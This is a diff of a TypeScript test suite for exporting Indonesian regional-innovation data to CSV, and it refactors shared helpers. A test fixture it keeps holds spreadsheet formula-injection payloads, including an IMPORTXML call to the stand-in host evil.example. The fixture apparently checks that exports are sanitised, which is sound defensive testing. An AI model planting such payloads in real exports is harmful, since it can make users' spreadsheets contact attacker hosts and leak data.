@@ -7,31 +7,11 @@ import type { Harness } from '../../src/emulator/harness';
 import type { IgaCsv } from '../../src/shared/admin-api';
 import type { Result } from '../../src/shared/api';
 import { EXPORT_TEXT } from '../../src/shared/messages/export';
+import { IGA_FORM_HEADERS, parseCsv } from '../support/iga';
 import { completeInnovation, saveAs, values, verify } from './admin-tools';
 import { ADMIN, DINKES_OP, DINSOS_OP, directEditor, PROTECTED, setUp } from './support';
 
 type Csv = Result<IgaCsv>;
-
-const FORM_HEADERS = [
-  'Nama Inovasi',
-  'Tahapan Inovasi',
-  'Inisiator Inovasi Daerah',
-  'Nama Inisiator',
-  'Jenis Inovasi',
-  'Bentuk Inovasi Daerah',
-  'Tematik / Asta Cita',
-  'Klaster PKPN',
-  'Klasifikasi Inovasi',
-  'Urusan Pemerintahan Utama',
-  'Urusan Lain yang Beririsan',
-  'Waktu Uji Coba Inovasi Daerah',
-  'Waktu Penerapan Inovasi Daerah',
-  'Waktu Pengembangan Inovasi Daerah',
-  'Rancang Bangun dan Pokok Perubahan yang Dilakukan',
-  'Tujuan Inovasi Daerah',
-  'Manfaat yang Diperoleh',
-  'Hasil Inovasi',
-];
 
 const HOSTILE = {
   name: '=IMPORTXML("http://evil.example","//a")',
@@ -39,35 +19,6 @@ const HOSTILE = {
   benefit: 'Ibu, balita, dan "lansia"\nterlayani',
   result: '@SUM(A1:A9)',
 };
-
-/** A strict RFC 4180 reader (CRLF records), to prove the CSV parses back to the same cells. */
-function parseCsv(text: string, sep = ','): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === sep) {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  return rows;
-}
 
 describe('Ekspor IGA', () => {
   let h: Harness;
@@ -90,7 +41,7 @@ describe('Ekspor IGA', () => {
   it('writes the national form columns in order, then 4 columns per indicator, then helpers', () => {
     const tab = values(h, EXPORT_TEXT.tab);
     const header = tab[1]!;
-    expect(header.slice(0, 18)).toEqual(FORM_HEADERS);
+    expect(header.slice(0, 18)).toEqual(IGA_FORM_HEADERS);
     const rubric = getRubric('iid-2027');
     rubric.sid.indicators.forEach((ind, k) => {
       expect(header.slice(18 + 4 * k, 22 + 4 * k)).toEqual([
